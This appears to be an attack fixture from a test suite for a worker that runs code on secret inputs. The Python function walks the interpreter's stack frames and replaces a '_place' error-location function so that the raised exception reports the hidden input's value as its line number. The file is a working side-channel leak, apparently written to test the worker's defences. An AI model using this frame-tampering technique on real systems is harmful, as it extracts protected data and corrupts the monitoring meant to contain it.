# /// attack
# tries = "Has the worker report an exception in the line whose number is a hidden input."
# gain = "secret"
# plain = "nothing"
# ///
import sys

import numpy as np


def double(x):
    number = int(np.max(np.abs(x)))
    frame = sys._getframe()
    while frame is not None:
        called = [getattr(one, "__globals__", {}) for one in list(frame.f_globals.values())]
        for names in (frame.f_globals, *called):
            if "_place" in names:
                names["_place"] = lambda *_: (1, number)
        frame = frame.f_back
    raise ValueError("no")
